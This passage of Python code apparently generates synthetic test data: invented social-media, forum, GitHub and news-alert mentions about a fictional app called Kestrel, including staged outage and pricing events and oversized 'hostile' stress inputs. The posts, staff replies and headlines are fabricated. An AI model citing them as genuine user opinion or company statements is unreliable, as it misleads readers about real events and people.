        if net == "rss":
            for feed in (f for fs in self.feeds.values() for f in fs):
                if feed.handle == handle:
                    return feed
        if key not in self.extra:
            if net == "rss":
                domain = slugify(handle, "") + ".net"
                a = Author("rss", handle, name or handle, None, f"https://{domain}/")
                self.feed_meta.setdefault(handle, (domain, "wp"))
            else:
                a = Author(
                    net,
                    handle,
                    name,
                    followers_for(self.rng, net),
                    author_url(net, handle),
                    did=make_did(self.rng) if net == "bluesky" else None,
                )
            self.extra[key] = a
        return self.extra[key]

    def pick(
        self,
        net: str,
        lang: str,
        rng: random.Random,
        p_customer: float,
        avoid: Author | None = None,
    ) -> Author:
        for _ in range(10):
            if net == "rss":
                feeds = self.feeds.get(lang) or self.feeds["en"]
                cands = [f for f in feeds if f is not self.alert_author]
                return rng.choice(cands)
            if rng.random() < p_customer:
                cands = self.cust_authors[net]
                if lang != "en":
                    cands = [a for a in cands if a.lang == lang]
                if cands:
                    a = rng.choices(cands, weights=[a.weight for a in cands])[0]
                    if a is not avoid:
                        return a
                    continue
            pool = self.pools.get((net, lang)) or self.pools[(net, "en")]
            a = rng.choices(pool, weights=[a.weight for a in pool])[0]
            if a is not avoid:
                return a
        return a


# --------------------------------------------------------------------------------------
# Mentions
# --------------------------------------------------------------------------------------

HN_STAFF = {
    "bug": L("""
Kestrel engineer here. The Android cold start is our top priority this quarter. Most of the time goes into a database integrity check we run on every launch; the fix is in testing now.
PM at Kestrel here. You're right that the importer should tell you what it skipped. We're adding a report at the end of every import.
"""),
    "outage": L("""
Kestrel engineer here. Sorry, this is on us. The client retry behaviour described above is accurate and is one of the things we're fixing first; a full postmortem will follow this week.
I work on sync at Kestrel. The status page lag is a fair criticism: it's updated by hand today, and we're moving it to the same alerts that page us.
"""),
    "price": L("""
I work at Kestrel. The feedback on the Slack integration change is being read, and we're discussing it internally. I can't promise an outcome in an HN comment, but it's not being ignored.
"""),
    "release": L("""
Kestrel PM here. Week numbers are coming back in 4.2.1 this week. Dropping them was an oversight, sorry.
Engineer on the timeline team here: yes, there's an accessible table view (press t in the timeline), and screen reader support was part of the design review.
"""),
}
REDDIT_SUB_BY_TOPIC = {
    "compare_pos": {"productivity": 40, "projectmanagement": 35, "kestrelapp": 25},
    "compare_neg": {"kestrelapp": 50, "productivity": 25, "projectmanagement": 25},
    "compare_neu": {"productivity": 45, "projectmanagement": 40, "kestrelapp": 15},
    "price_neg": {"kestrelapp": 80, "SaaS": 10, "productivity": 10},
    "question": {"kestrelapp": 80, "productivity": 10, "selfhosted": 10},
}
REDDIT_COMMENT_SUBS = {
    "kestrelapp": 45,
    "productivity": 20,
    "projectmanagement": 15,
    "selfhosted": 6,
    "androidapps": 5,
    "webdev": 4,
    "sysadmin": 5,
}
LANG_SUBS = {
    "de": "de_EDV",
    "fr": "france",
    "es": "programacion",
    "pt": "brdev",
    "it": "ItalyInformatica",
    "nl": "thenetherlands",
    "sv": "sweden",
    "pl": "Polska",
    "ja": "newsokur",
    "zh": "China_irl",
    "ar": "arabs",
    "he": "Israel",
}
EXT_THREAD_TITLES = {
    "kestrelapp": [
        "Weekly help thread",
        "What's new in Kestrel this month?",
        "Share your board setups",
        "Android performance megathread",
        "Feature wishlist, November edition",
    ],
    "productivity": [
        "What's your to-do app of choice in 2026?",
        "How do you plan your week?",
        "Apps that actually stuck for you",
        "Best Kanban app for personal use?",
        "Paper vs digital planning",
    ],
    "projectmanagement": [
        "Which PM tool for a 20-person agency?",
        "Jira alternatives that non-devs will use",
        "How do you report status to execs?",
        "Gantt charts: still useful?",
    ],
    "selfhosted": ["Self-hosted Kanban with CalDAV?", "What do you use instead of SaaS planners?"],
    "androidapps": [
        "Best task manager apps for Android 2026",
        "Apps with the worst performance lately",
    ],
    "webdev": ["How do you track client work?", "Tools for managing freelance projects"],
    "sysadmin": [
        "SSO for SaaS tools: which ones make it painless?",
        "Ticketing vs project planning tools",
    ],
    "SaaS": ["SaaS price increases this year: a list", "How to announce a price increase"],
}
EXT_THREAD_TITLES.update(
    {
        sub: ["Welche Tools nutzt ihr?" if lang == "de" else "Kestrel"]
        for lang, sub in LANG_SUBS.items()
    }
)
HN_CONTEXT = [
    "For context, we're about {nn} people.",
    "This was on the 4.1 line, for what it's worth.",
    "YMMV, but that's been our experience.",
    "(Not affiliated, just a long-time user.)",
    "We've been paying customers since 2023.",
    "Happy to share more details if useful.",
    "That's on {os}, for the record.",
]
REDDIT_CONTEXT = [
    "Team of {nn}, for context.",
    "On {os}.",
    "On a {phone}.",
    "Just my two cents.",
    "Hope that helps!",
    "ymmv",
]


@dataclass
class Mention:
    channel: str
    kind: str  # post | story | comment | issue | entry
    text: str
    time: datetime
    author: Author
    topic: str
    sentiment: str
    lang: str
    parent: Mention | None = None
    hostile: bool = False
    sub: str | None = None
    repo: str | None = None
    number: int | None = None
    ext: tuple | None = None  # outside thread: reddit (post36, slug) / github issue number
    heat: float = 1.0
    depth: int = 0
    seq: int = 0
    stream: bool = False
    id: str = ""
    url: str = ""

    def root(self) -> Mention:
        m = self
        while m.parent is not None:
            m = m.parent
        return m


REPLY_SENTIMENT = {
    "agree_neg": "negative",
    "help": "neutral",
    "disagree": "positive",
    "agree_pos": "positive",
    "answer": "neutral",
    "metoo": "neutral",
    "outage": "negative",
    "price": "negative",
    "to_brand": "neutral",
    "release": "positive",
}


def family(topic: str) -> str:
    if topic.startswith("outage") or topic == "brand_outage":
        return "outage"
    if topic.startswith("price") or topic == "brand_price":
        return "price"
    if topic == "billing":
        return "billing"
    if topic in ("bug", "sarcasm", "release_neg", "compare_neg", "after_neg"):
        return "bug"
    if topic in ("praise", "compare_pos", "release_pos", "after_pos", "brand_release"):
        return "praise"
    return "question"


class Generator:
    def __init__(self, rng: random.Random, world: World, renderer: Renderer) -> None:
        self.rng = rng
        self.world = world
        self.r = renderer
        self.used: Counter = Counter()
        self.seen: set = set()
        self.seq = 0
        self.ext_threads: dict[str, list] = {}
        self.last_tpl = ""
        self.thread_tpls: dict[int, set] = {}
        self.thread_size: Counter = Counter()

    # -- text -------------------------------------------------------------------------
    def entries(self, channel: str, kind: str, lang: str, topic: str) -> list[str]:
        if lang == "en":
            if channel in ("mastodon", "bluesky"):
                return SHORT.get(topic, [])
            if channel == "hackernews":
                if kind == "story":
                    return HN_STORY.get(topic, [])
                return HN_COMMENT.get(topic, []) + HN_LONG.get(topic, [])
            if channel == "reddit":
                if kind == "post":
                    return REDDIT_POST.get(topic, []) + REDDIT_LONG.get(topic, [])
                # Comments in other people's threads read much like short social posts.
                return REDDIT_COMMENT.get(topic, []) + [
                    e for e in SHORT.get(topic, []) if "#" not in e and "{brand}" not in e
                ]
            if channel == "github":
                return (
                    GH_ISSUE.get(topic, []) if kind == "issue" else GH_COMMENT_USER.get(topic, [])
                )
            if channel == "rss":
                return RSS.get(topic, []) + RSS_LONG.get(topic, [])
            return []
        if channel in ("mastodon", "bluesky") or (channel == "reddit" and kind == "comment"):
            return LANG.get(lang, {}).get(topic, [])
        if channel == "rss" or (channel == "reddit" and kind == "post"):
            return [txt for tp, txt in LANG_LONG.get(lang, []) if tp == topic]
        return []

    def usable(
        self,
        entries: list[str],
        t: datetime,
        once: bool,
        context: str | None = None,
        exclude: set | None = None,
        cap: int = 7,
    ) -> list[str]:
        # Long texts, blog posts, HN stories and Reddit posts are used once: a repeated
        # essay or headline would be an obvious copy.  A reply (context = the parent's
        # text) may only use a keyword-tagged text whose keywords the parent mentions,
        # and never repeats a text already used in the same thread.
        out = []
        for e in entries:
            tag, body = split_tag(e)
            if (
                not gate_ok(body, t)
                or ((once or len(body) > 600) and self.used[e])
                or self.used[e] >= cap
            ):
                continue
            if exclude and e in exclude:
                continue
            if context is not None and tag and not re.search(tag, context, re.I):
                continue
            out.append(e)
        return out

    def pick_text(
        self,
        entries: list[str],
        channel: str,
        t: datetime,
        topic: str,
        sentiment: str,
        lang: str,
        decorate=None,
        once: bool = False,
        context: str | None = None,
        exclude: set | None = None,
        plain: bool = False,
        reply: bool = False,
        cap: int = 7,
    ) -> str | None:
        rng = self.rng
        # Even with placeholders and light edits, a text seen more than a handful of
        # times reads as a template; non-English texts (fewer of them) even sooner.
        cap = cap if lang == "en" else min(cap, 3)
        cands = self.usable(entries, t, once or channel == "rss", context, exclude, cap)
        if not cands:
            return None
        for attempt in range(14):
            weights = [1.0 / (1 + self.used[e]) ** 2 for e in cands]
            tpl = rng.choices(cands, weights=weights)[0]
            text = self.r.render(split_tag(tpl)[1], channel, t, topic, context)
            force = attempt >= 4 or (self.used[tpl] > 0 and rng.random() < 0.6)
            if decorate:
                text = decorate(text, force)
            if not plain:
                text = vary(
                    text, rng, channel, sentiment, lang, force and not decorate, topic, reply
                )
            elif force and attempt >= 4:
                text += rng.choice([" 🙏", " 💙", ""]) if channel in ("mastodon", "bluesky") else ""
            if channel == "bluesky" and len(text) > 300:
                continue
            if channel == "mastodon" and len(text) > 500:
                continue
            if text in self.seen:
                continue
            self.used[tpl] += 1
            self.seen.add(text)
            self.last_tpl = tpl
            return text
        return None

    def claim_text(self, text: str) -> str:
        self.seen.add(text)
        return text

    # -- roots ------------------------------------------------------------------------
    def choose_lang(self, channel: str, t: datetime) -> str:
        rng = self.rng
        if rng.random() >= NON_EN.get(channel, 0):
            return "en"
        w = {}
        for lang, base in LANG_WEIGHTS.items():
            hours = LANG_HOURS.get(lang)
            awake = (hours is None and 6 <= t.hour <= 21) or (
                hours is not None and (t.hour in hours or t.hour + 24 in hours)
            )
            w[lang] = base * (1.0 if awake else 0.15)
        return weighted(rng, w)

    def new_mention(self, **kw) -> Mention:
        self.seq += 1
        m = Mention(seq=self.seq, **kw)
        return m

    def make_root(
        self, component: str, t: datetime, channel: str | None = None, topics: dict | None = None
    ) -> Mention | None:
        rng = self.rng
        topics = topics or COMPONENT_TOPICS[component]
        for attempt in range(8):
            # A channel with nothing to say about this topic falls back to any channel.
            ch = (
                channel
                if (channel and attempt < 3)
                else weighted(rng, COMPONENT_CHANNELS[component])
            )
            lang = self.choose_lang(ch, t)
            for lang_try in [lang, "en"] if lang != "en" else ["en"]:
                options = {}
                for kind, kw in KIND_WEIGHTS[ch].items():
                    once = ch == "rss" or kind == "story" or (ch == "reddit" and kind == "post")
                    for topic, tw in topics.items():
                        if self.usable(
                            self.entries(ch, kind, lang_try, topic),
                            t,
                            once,
                            cap=7 if lang_try == "en" else 3,
                        ):
                            options[(kind, topic)] = kw * tw
                if not options:
                    continue
                kind, topic = weighted(rng, options)
                sentiment = TOPIC_SENTIMENT[topic]
                ents = self.entries(ch, kind, lang_try, topic)
                decorate = self.decorator(ch, kind, sentiment) if lang_try == "en" else None
                once = ch == "rss" or kind == "story" or (ch == "reddit" and kind == "post")
                text = self.pick_text(ents, ch, t, topic, sentiment, lang_try, decorate, once)
                if text is None:
                    continue
                author = self.world.pick(ch, lang_try, rng, 0.0 if ch == "rss" else 0.53)
                m = self.new_mention(
                    channel=ch,
                    kind=kind,
                    text=text,
                    time=t,
                    author=author,
                    topic=topic,
                    sentiment=sentiment,
                    lang=lang_try,
                )
                if ch == "rss" and "Google Alert" in text.split("\n")[0]:
                    m.author, m.ext = self.world.alert_author, rng.choice(NEWS_SITES)
                self.place(m)
                return m
        return None

    def decorator(self, channel: str, kind: str, sentiment: str):
        """Channel-specific light context lines for long-form comments."""
        rng = self.rng

        def hn(text: str, force: bool) -> str:
            if force or rng.random() < 0.12:
                extra = self.r.render(rng.choice(HN_CONTEXT), channel, REFERENCE_TIME, "x")
                sep = "\n\n" if rng.random() < 0.5 else " "
                return text + ("" if text[-1:] in ".!?)" else ".") + sep + extra
            return text

        def rd(text: str, force: bool) -> str:
            if force or rng.random() < 0.12:
                extra = self.r.render(rng.choice(REDDIT_CONTEXT), channel, REFERENCE_TIME, "x")
                return text + (" " if text[-1:] in ".!?)" else ". ") + extra
            return text

        if channel == "hackernews" and kind == "comment":
            return hn
        if channel == "reddit" and kind == "comment":
            return rd
        return None

    def place(self, m: Mention) -> None:
        """Fill in the thread coordinates a mention needs for its id and URL."""
        rng = self.rng
        if m.channel == "reddit":
            if m.kind == "post":
                mm = re.match(r"r/(\w+)\|", m.text)
                if mm:
                    m.sub = mm.group(1)
                    m.text = m.text[mm.end() :]
                elif m.lang != "en":
                    m.sub = LANG_SUBS.get(m.lang, "kestrelapp")
                else:
                    m.sub = weighted(
                        rng,
                        REDDIT_SUB_BY_TOPIC.get(m.topic, {"kestrelapp": 85, "productivity": 15}),
                    )
            elif m.parent is None:
                sub = (
                    LANG_SUBS.get(m.lang) if m.lang != "en" else weighted(rng, REDDIT_COMMENT_SUBS)
                )
                m.sub = sub
                m.ext = self.outside_thread(sub, m.time)
        if m.channel == "github":
            if m.kind == "issue":
                low = m.text.lower()
                if "android" in low.split("\n")[0] or "app.kestrel.android" in low:
                    m.repo = "kestrel-hq/kestrel-android"
                elif "kes add" in low or "kestrel-cli" in low or "command-line client" in low:
                    m.repo = "kestrel-hq/kestrel-cli"
                else:
                    m.repo = "kestrel-hq/kestrel"
            elif m.parent is None:
                m.repo = "kestrel-hq/kestrel"
                m.ext = rng.randint(1650, 2860)
        m.heat = math.exp(rng.gauss(0, 0.7))
        if m.kind == "story" and m.topic in ("release_pos", "price_neg", "outage_neg", "after_pos"):
            m.heat *= 3.0

    def outside_thread(self, sub: str, t: datetime) -> tuple:
        rng = self.rng
        threads = self.ext_threads.setdefault(sub, [])
        recent = [th for th in threads if timedelta(0) < t - th[0] < timedelta(days=3)]
        if recent and rng.random() < 0.6:
            return rng.choice(recent)[1:]
        start = t - timedelta(minutes=rng.randint(30, 1800))
        sec = (start - WINDOW_START).total_seconds()
        post36 = to36(int("1y00000", 36) + int(sec * 17.4) + rng.randint(0, 9))
        title = rng.choice(EXT_THREAD_TITLES.get(sub, ["Kestrel"]))
        slug = re.sub(r"[^a-z0-9]+", "_", ascii_fold(title).lower()).strip("_")[:50]
        threads.append((start, post36, slug))
        return (post36, slug)

    # -- replies ----------------------------------------------------------------------
    THREAD_CAP = {"hackernews": 16, "reddit": 9, "github": 5, "mastodon": 5, "bluesky": 5}

    def reply_weight(self, m: Mention, t_max: datetime) -> float:
        if m.hostile or m.channel == "rss" or t_max - m.time < timedelta(minutes=3):
            return 0.0
        if self.thread_size[m.root().seq] >= self.THREAD_CAP[m.channel]:
            return 0.0
        if m.kind == "story":
            w = 14.0
        elif m.channel == "reddit" and m.kind == "post":
            w = 6.0
        elif m.kind == "issue":
            w = 4.0
        elif m.kind == "post":  # Mastodon / Bluesky
            w = 0.5
            if m.author.brand:
                w = 9.0 if m.parent is None else 0.8
            elif m.sentiment == "negative":
                w = 1.4
            elif m.topic in ("question", "release_q", "request"):
                w = 1.2
            if m.author.followers and m.author.followers > 20_000:
                w *= 3
        else:
            w = 0.9 if m.parent is not None or m.channel == "hackernews" else 0.5
        return w * m.heat * (0.55**m.depth)

    def reply_delay(self, parent: Mention, brand: bool) -> timedelta:
        rng = self.rng
        median = {"hackernews": 40, "reddit": 55, "mastodon": 22, "bluesky": 18, "github": 170}[
            parent.channel
        ]
        if brand:
            median = 28
        if parent.topic.startswith("outage") or parent.topic == "brand_outage":
            median = 9
        return timedelta(minutes=max(1.0, median * math.exp(rng.gauss(0, 0.9))))

    def make_reply(self, parent: Mention, t: datetime | None, t_max: datetime) -> Mention | None:
        rng = self.rng
        ch = parent.channel
        root = parent.root()
        thread = self.thread_tpls.setdefault(root.seq, set())
        fam = family(root.topic if ch in ("github", "hackernews", "reddit") else parent.topic)
        by_brand = by_staff = False
        if not parent.author.brand and not parent.author.staff and not root.author.brand:
            if ch in ("mastodon", "bluesky") and (
                parent.sentiment == "negative" or fam == "question"
            ):
                by_brand = rng.random() < 0.3
            elif ch == "reddit" and parent.kind == "post" and parent.sentiment != "positive":
                by_brand = rng.random() < 0.18
            elif ch == "github":
                by_staff = rng.random() < 0.45
            elif (
                ch == "hackernews"
                and parent.kind == "comment"
                and (
                    fam in ("bug", "outage", "price") or root.topic in ("release_neg", "release_q")
                )
            ):
                by_staff = rng.random() < 0.06
        if t is None:
            t = parent.time + self.reply_delay(parent, by_brand)
            if t >= t_max:
                span = (t_max - parent.time).total_seconds()
                if span < 120:
                    return None
                t = parent.time + timedelta(seconds=rng.uniform(60, span - 30))
        t = t.replace(microsecond=0)
        if t <= parent.time:
            t = parent.time + timedelta(seconds=rng.randint(40, 300))
        lang = "en"
        if (
            parent.lang in LANG_REPLY
            and ch in ("mastodon", "bluesky", "reddit")
            and not by_brand
            and rng.random() < 0.65
        ):
            lang = parent.lang

        ctx = parent.text
        topic = root.topic if ch in ("github", "hackernews", "reddit") else parent.topic
        common = dict(context=ctx, exclude=thread, reply=True)
        sentiment = "neutral"
        text = None
        if by_brand:
            author = self.world.brand[ch]
            key = fam if fam in BRAND_REPLY else "question"
            text = self.pick_text(
                BRAND_REPLY[key], ch, t, topic, "neutral", "en", plain=True, **common
            )
        elif by_staff and ch == "github":
            author = rng.choice(self.world.staff_gh)
            text = self.pick_text(
                GH_COMMENT_STAFF.get(root.topic, GH_COMMENT_STAFF["bug"]),
                ch,
                t,
                topic,
                "neutral",
                "en",
                plain=True,
                **common,
            )
        elif by_staff:
            author = self.world.staff_hn
            key = "release" if root.topic.startswith("release") else fam
            text = self.pick_text(
                HN_STAFF.get(key, HN_STAFF["bug"]),
                ch,
                t,
                topic,
                "neutral",
                "en",
                plain=True,
                **common,
            )
        else:
            author = self.world.pick(ch, lang, rng, 0.53, avoid=parent.author)
            if lang != "en":
                sentiment = parent.sentiment if parent.sentiment == "negative" else "neutral"
                text = self.pick_text(LANG_REPLY[lang], ch, t, topic, sentiment, lang, **common)
            elif ch == "github":
                sentiment = TOPIC_SENTIMENT.get(root.topic, "neutral")
                text = self.pick_text(
                    GH_COMMENT_USER.get(root.topic, GH_COMMENT_USER["bug"]),
                    ch,
                    t,
                    topic,
                    sentiment,
                    "en",
                    **common,
                )
            elif ch in ("hackernews", "reddit"):
                comments = (HN_COMMENT if ch == "hackernews" else REDDIT_COMMENT).get(
                    root.topic, []
                )
                if ch == "hackernews":
                    comments = comments + HN_LONG.get(root.topic, [])
                replies = HN_REPLY if ch == "hackernews" else REDDIT_REPLY
                deco = self.decorator(ch, "comment", "neutral")
                # Answering the story/post itself: a comment on the topic.  Answering a
                # comment: either more on the topic or a conversational reply.
                if parent.kind in ("story", "post") or rng.random() < 0.5:
                    sentiment = TOPIC_SENTIMENT.get(root.topic, "neutral")
                    text = self.pick_text(comments, ch, t, topic, sentiment, "en", deco, **common)
                if text is None and parent.kind == "comment":
                    kind = self.reply_kind(parent, fam)
                    kind = {
                        "outage": "agree_neg",
                        "price": "agree_neg",
                        "to_brand": "agree_pos",
                        "release": "agree_pos",
                    }.get(kind, kind)
                    sentiment = REPLY_SENTIMENT[kind]
                    text = self.pick_text(
                        replies.get(kind, []), ch, t, topic, sentiment, "en", deco, **common
                    )
            else:
                kind = self.reply_kind(parent, fam)
                sentiment = REPLY_SENTIMENT[kind]
                text = self.pick_text(SHORT_REPLY[kind], ch, t, topic, sentiment, "en", **common)
                if text is None:
                    kind = "agree_neg" if parent.sentiment == "negative" else "agree_pos"
                    sentiment = REPLY_SENTIMENT[kind]
                    text = self.pick_text(
                        SHORT_REPLY[kind], ch, t, topic, sentiment, "en", **common
                    )
        if text is None:
            return None
        thread.add(self.last_tpl)
        if ch == "mastodon":
            user, _, inst = parent.author.handle.partition("@")
            my_inst = author.handle.partition("@")[2]
            mention = (
                f"@{user}" if inst == my_inst or rng.random() < 0.6 else f"@{parent.author.handle}"
            )
            self.seen.discard(text)
            cw = ""
            if text.startswith("CW: "):  # the content warning goes above the mention
                cw, _, text = text.partition("\n\n")
                cw += "\n\n"
            for candidate in (
                f"{cw}{mention} {text}",
                f"{cw}@{parent.author.handle} {text}",
                f"{cw}{mention} {text} {rng.choice(EMOJI[sentiment])}",
            ):
                if candidate not in self.seen:
                    break
            text = candidate
            self.seen.add(text)
        m = self.new_mention(
            channel=ch,
            kind="comment" if ch in ("hackernews", "reddit", "github") else "post",
            text=text,
            time=t,
            author=author,
            topic=topic,
            sentiment=sentiment,
            lang=lang,
            parent=parent,
            depth=parent.depth + 1,
        )
        if ch == "reddit":
            m.sub = root.sub
        if ch == "github":
            m.repo = root.repo
        m.heat = math.exp(rng.gauss(0, 0.6))
        self.thread_size[root.seq] += 1
        return m

    def reply_kind(self, parent: Mention, fam: str) -> str:
        rng = self.rng
        if parent.author.brand and parent.parent is not None:
            return "to_brand"  # someone answering the brand's reply to them
        if parent.author.brand:
            return {
                "brand_outage": "outage",
                "brand_price": "price",
                "brand_release": "release",
            }.get(parent.topic, "agree_pos")
        if fam == "outage":
            return (
                "outage"
                if parent.channel in ("mastodon", "bluesky")
                else weighted(rng, {"agree_neg": 4, "help": 1})
            )
        if fam == "price":
            return (
                "price"
                if parent.channel in ("mastodon", "bluesky")
                else weighted(rng, {"agree_neg": 3, "disagree": 2})
            )
        if parent.sentiment == "negative":
            return weighted(rng, {"agree_neg": 5, "help": 3, "disagree": 2})
        if parent.sentiment == "positive":
            return weighted(rng, {"agree_pos": 8, "agree_neg": 1})
        if parent.topic == "request":
            return weighted(rng, {"metoo": 6, "answer": 2})
        if parent.topic in ("question", "release_q"):
            return weighted(rng, {"answer": 6, "metoo": 2})
        return weighted(rng, {"agree_pos": 3, "answer": 2, "agree_neg": 2})

    def add_replies(self, mentions: list[Mention], n_total: int, t_max: datetime) -> list[Mention]:
        rng = self.rng
        out: list[Mention] = []
        by_ch: dict[str, list[Mention]] = {}
        for m in mentions:
            by_ch.setdefault(m.channel, []).append(m)
        for ch, share in REPLY_CHANNEL_SPLIT.items():
            pool = by_ch.get(ch, [])
            want = round(n_total * share)
            made = tries = 0
            while made < want and tries < want * 6:
                tries += 1
                weights = [self.reply_weight(m, t_max) for m in pool]
                if not any(weights):
                    break
                parent = rng.choices(pool, weights=weights)[0]
                r = self.make_reply(parent, None, t_max)
                if r is None:
                    continue
                pool.append(r)
                out.append(r)
                made += 1
        return out

    # -- brand timeline, hostile posts --------------------------------------------------
    def brand_posts(self) -> list[Mention]:
        d = timedelta
        schedule = [
            (RELEASE_AT + d(minutes=2), "brand_release", 0),
            (RELEASE_AT + d(minutes=41), "brand_release", 1),
            (V421_AT + d(minutes=6), "brand_release", 2),
            (PRICE_AT + d(minutes=1), "brand_price", 0),
            (datetime(2026, 11, 18, 15, 0, tzinfo=UTC), "brand_price", 1),
            (OUTAGE_START + d(minutes=24), "brand_outage", 0),
            (OUTAGE_START + d(minutes=127), "brand_outage", 1),
            (OUTAGE_END + d(minutes=4), "brand_outage", 2),
            (datetime(2026, 11, 18, 10, 0, tzinfo=UTC), "brand_outage", 3),
            (datetime(2026, 11, 7, 16, 0, tzinfo=UTC), "brand_misc", 0),
            (datetime(2026, 11, 12, 14, 30, tzinfo=UTC), "brand_misc", 1),
            (datetime(2026, 11, 17, 15, 0, tzinfo=UTC), "brand_misc", 2),
        ]
        out = []
        for t, topic, idx in schedule:
            base = BRAND_POSTS[topic][idx]
            for ch, delay, text in [
                ("bluesky", 0, base),
                ("mastodon", 40, base + "\n\n#kestrel #productivity"),
            ]:
                if ch == "bluesky" and len(text) > 300:
                    text = text.split(" https://")[0][:250].rstrip() + " https://kestrel.app/blog"
                self.claim_text(text)
                m = self.new_mention(
                    channel=ch,
                    kind="post",
                    text=text,
                    time=t + timedelta(seconds=delay),
                    author=self.world.brand[ch],
                    topic=topic,
                    sentiment="neutral",
                    lang="en",
                )
                m.heat = 2.0
                out.append(m)
        return out

    def hostile(self, spec: dict, t: datetime) -> Mention:
        rng = self.rng
        ch = spec["channel"]
        kind = spec.get("kind") or {"rss": "entry"}.get(ch, "post")
        text = spec["text"]
        if text == "@@LOG20000@@":
            text = long_log(rng, 20_000)
        elif text == "@@WORD60000@@":
            text = base64.b64encode(rng.randbytes(45_000)).decode()  # 60,000 chars, no spaces
        else:
            text = self.r.render(text, ch, t, "bug")
        self.claim_text(text)
        lang = "he" if "\u05e2" in text else ("ja" if "タイムライン" in text else "en")
        if "author" in spec:
            author = self.world.special(ch, spec["author"][0], spec["author"][1])
        else:
            author = self.world.pick(ch, lang, rng, 0.0)
        m = self.new_mention(
            channel=ch,
            kind=kind,
            text=text,
            time=t,
            author=author,
            topic="hostile",
            sentiment="negative"
            if any(
                w in text.lower()
                for w in ("scam", "refund", "down", "terrible", "leaked", "never answers")
            )
            else "neutral",
            lang=lang,
            hostile=True,
        )
        if ch == "reddit":
            m.sub = spec.get("sub", "kestrelapp")
            m.ext = self.outside_thread(m.sub, t)
        if ch == "github":
            m.repo = "kestrel-hq/kestrel-cli" if "kes add" in text else "kestrel-hq/kestrel"
            if kind == "comment":
                m.ext = rng.randint(1650, 2860)
        return m

    def make_alert(self, component: str, t: datetime) -> Mention | None:
        rng = self.rng
        topics = {k: v for k, v in COMPONENT_TOPICS[component].items()}
        if component == "general":
            topics = {"misc": 5, "compare_neu": 2, "praise": 2}
        for _ in range(6):
            topic = weighted(rng, topics)
            got = alert_entry(rng, topic, t)
            if got is None:
                continue
            text, site = got
            if text in self.seen or not gate_ok(text, t):
                continue
            self.claim_text(text)
            m = self.new_mention(
                channel="rss",
                kind="entry",
                text=text,
                time=t,
                author=self.world.alert_author,
                topic=topic,
                sentiment=TOPIC_SENTIMENT[topic],
                lang="en",
                ext=site,
            )
            return m
        return None


def long_log(rng: random.Random, size: int) -> str:
    """A pasted desktop debug log, cut to exactly `size` characters (ASCII only)."""
    head = (
        "Desktop app stuck in reconnect loop after waking from sleep (full debug log)\n\n"
        "Kestrel desktop 4.1.4 on Windows 11 23H2. After the laptop wakes up, sync never recovers "
        "until I quit the app. Full debug log below, sorry for the length, I didn't want to cut "
        "anything important.\n\n```\n"
    )
    tail = "\n```\n\n(log truncated by the paste limit)"
    t = datetime(2026, 11, 8, 7, 58, 12, 301000, tzinfo=UTC)
    msgs = [
        "INFO  power: resume from suspend detected (slept {s}s)",
        "INFO  net: interface change wlan0 up=true metered=false",
        "DEBUG sync: websocket state CLOSED -> CONNECTING (attempt {a})",
        "DEBUG sync: GET https://api.kestrel.app/v1/sync/catchup?cursor=c_7f3a{c} timeout=15000",
        "WARN  sync: catchup failed: net::ERR_NETWORK_CHANGED",
        "DEBUG sync: scheduling reconnect in 1000ms (fixed backoff)",
        "DEBUG store: pending ops queue size={q}",
        "INFO  ui: status indicator -> 'Connecting...'",
        "DEBUG auth: token valid for {s}s, no refresh needed",
        "WARN  sync: websocket upgrade rejected: 401 (token audience mismatch?)",
        "DEBUG sync: retrying with refreshed token",
        "ERROR sync: unhandled rejection in reconnect(): TypeError: Cannot read properties of undefined (reading 'cursor')",
        "    at SyncClient.reconnect (app://kestrel/dist/sync.js:1:48211)",
        "    at Timeout._onTimeout (app://kestrel/dist/sync.js:1:47102)",
        "    at listOnTimeout (node:internal/timers:581:17)",
        "DEBUG metrics: flush 14 events",
    ]
    body = []
    n = len(head) + len(tail)
    attempt = 0
    while n < size + 200:
        t += timedelta(milliseconds=rng.randint(3, 1400))
        attempt += 1
        line = (
            "["
            + t.strftime("%Y-%m-%dT%H:%M:%S.")
            + f"{t.microsecond // 1000:03d}Z] "
            + rng.choice(msgs).format(
                s=rng.randint(60, 40000), a=attempt, c=rng.randint(100, 999), q=rng.randint(0, 40)
            )
        )
        body.append(line)
        n += len(line) + 1
    text = head + "\n".join(body)
    text = text[: size - len(tail)] + tail
    assert len(text) == size
    return text


def alert_entry(rng: random.Random, topic: str, t: datetime) -> tuple[str, str] | None:
    """Google Alerts entries: headline + snippet, assembled from a small bank so a busy
    day of press coverage does not repeat word for word."""
    heads = {
        "release_pos": [
            "Kestrel 4.2 adds a rebuilt timeline view",
            "Kestrel's new timeline takes aim at Asana and Monday",
            "Task planner Kestrel ships dependencies and critical path",
            "Kestrel update brings Gantt-style planning to all plans",
            "Kestrel 4.2 review: the timeline finally grows up",
        ],
        "price_neg": [
            "Kestrel raises prices for Pro and Team plans",
            "Kestrel users push back on price increase",
            "Kestrel price hike draws criticism over timing",
            "Why Kestrel customers are angry about the new pricing",
        ],
        "price_neu": [
            "Kestrel announces pricing changes for 2027",
            "What Kestrel's new prices mean for small teams",
        ],
        "outage_neg": [
            "Kestrel outage hits European users",
            "Kestrel sync service down for hours in Europe",
            "Kestrel users report 'Connecting...' errors",
            "Planner app Kestrel suffers four-hour outage",
            "European teams locked out of Kestrel on Monday",
        ],
        "after_pos": [
            "Kestrel publishes postmortem of EU outage",
            "Kestrel promises client fixes after outage",
        ],
        "after_neg": [
            "Outage and price rise make for a rough week at Kestrel",
            "Kestrel customers weigh alternatives after outage",
        ],
        "misc": [
            "Kestrel named in list of best remote-work tools",
            "Copenhagen's Kestrel hires for EU expansion",
            "School district adopts Kestrel for curriculum planning",
            "Kestrel opens Berlin office",
            "Kestrel joins EU cloud code of conduct",
            "Hospital IT team moves project tracking to Kestrel",
            "Kestrel partners with Slack on workflow templates",
            "Local council pilots Kestrel for road works planning",
            "Kestrel hosts planning workshop for nonprofits",
        ],
        "compare_neu": [
            "Kestrel vs Asana vs Linear: which planner is right for you?",
            "The best project management apps of 2026",
            "Trello alternatives worth trying this year",
            "Seven planners for remote teams, ranked",
        ],
        "praise": [
            "How one agency doubled its output with Kestrel",
            "Kestrel review: fast, focused and friendly",
            "Kestrel wins design award for its mobile app",
            "Why small teams love Kestrel",
        ],
    }
    snippets = {
        "release_pos": [
            "The update adds draggable dependencies, baselines and a critical path view, and is rolling out to all plans.",
            "The company says the new timeline renders large projects up to ten times faster than before.",
            "Baselines let teams compare the current plan with an earlier snapshot.",
        ],
        "price_neg": [
            "Pro rises from $8 to $10 a month and Team from $14 to $18 per seat from January 15.",
